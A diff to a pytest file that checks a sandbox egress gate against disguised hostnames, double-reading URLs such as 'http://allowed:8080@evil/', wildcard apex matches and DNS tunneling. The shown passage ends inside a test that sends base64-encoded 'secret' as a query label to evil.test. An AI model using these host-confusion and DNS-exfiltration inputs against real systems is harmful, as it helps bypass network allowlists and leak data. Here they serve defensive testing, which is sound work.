@@ -1,8 +1,8 @@
-"""E: no spelling of a host is taken for another one."""
+"""No spelling of a host is taken for another one."""
 
 import pytest
 
-from tests.promises.den import Den
+from tests.promises.sandbox_probe import SandboxProbe
 
 DISGUISES = {
     "suffix": "good.test.evil.test",
@@ -51,14 +51,16 @@ DISGUISES = {
 
 
 @pytest.mark.parametrize("name", DISGUISES.values(), ids=DISGUISES.keys())
-def test_a_connect_to_a_disguised_name_is_refused(place: Den, name: str) -> None:
+def test_a_connect_to_a_disguised_name_is_refused(
+    sandbox: SandboxProbe, name: str
+) -> None:
     """Promise: only the very name that a rule holds passes, in one spelling.
 
     Why: parsers disagree on what a host is, and each disagreement is a way out.
     """
-    place.allow(place.good())
+    sandbox.allow(sandbox.good())
 
-    done = place.run(f"""
+    done = sandbox.run(f"""
         wire, status = tunnel(b"{name}:" + str(PORT).encode())
         say(status)
     """)
@@ -78,14 +80,16 @@ def test_a_connect_to_a_disguised_name_is_refused(place: Den, name: str) -> None
         "ftp://good.test:PORT/",
     ],
 )
-def test_a_url_leads_where_every_parser_says_or_nowhere(place: Den, url: str) -> None:
+def test_a_url_leads_where_every_parser_says_or_nowhere(
+    sandbox: SandboxProbe, url: str
+) -> None:
     """Promise: a plain request whose URL has two readings reaches neither.
 
     Why: `http://allowed:8080@evil/` passed two of the peers.
     """
-    place.allow(place.good())
+    sandbox.allow(sandbox.good())
 
-    done = place.run(f"""
+    done = sandbox.run(f"""
         url = "{url}".replace("PORT", str(PORT))
         head = f"GET {{url}} HTTP/1.1\\r\\nHost: good.test:{{PORT}}\\r\\n\\r\\n"
         say(raw(head.encode()))
@@ -94,25 +98,25 @@ def test_a_url_leads_where_every_parser_says_or_nowhere(place: Den, url: str) ->
     assert done.out.startswith(("HTTP/1.1 403", "HTTP/1.1 400")), done.out
 
 
-def test_a_wildcard_leaves_out_its_apex(place: Den) -> None:
+def test_a_wildcard_leaves_out_its_apex(sandbox: SandboxProbe) -> None:
     """Promise: `*.good.test` allows what is below good.test, not good.test.
 
     Why: an apex is often somebody else's, and RFC 6125 reads it so.
     """
-    place.allow(place.good(host="*.good.test"))
+    sandbox.allow(sandbox.good(host="*.good.test"))
 
-    done = place.run("say(tunnel(f'good.test:{PORT}')[1])")
+    done = sandbox.run("say(tunnel(f'good.test:{PORT}')[1])")
 
     assert " 403 " in done.out
 
 
 @pytest.mark.parametrize("kind", [16, 10, 99, 12, 255, 252])
-def test_names_are_no_way_to_carry_data_out(place: Den, kind: int) -> None:
+def test_names_are_no_way_to_carry_data_out(sandbox: SandboxProbe, kind: int) -> None:
     """Promise: nothing but A is answered, from the gate itself, asking nobody.
 
     Why: TXT, NULL, SPF, PTR, ANY and AXFR are what DNS tunnels are made of.
     """
-    done = place.run(f"""
+    done = sandbox.run(f"""
         wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         wire.settimeout(4)
         name = b"".join(bytes([len(p)]) + p for p in (b"c2VjcmV0", b"evil", b"test"))
